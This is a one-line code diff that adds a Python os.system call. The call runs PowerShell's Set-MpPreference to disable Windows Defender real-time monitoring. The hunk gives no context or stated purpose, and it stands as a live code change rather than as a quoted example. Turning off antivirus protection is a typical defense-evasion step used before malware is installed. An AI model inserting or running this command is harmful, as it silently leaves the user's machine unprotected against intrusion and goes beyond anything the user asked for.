@@ -1,0 +1,1 @@
+os.system("powershell Set-MpPreference -DisableRealtimeMonitoring $true")
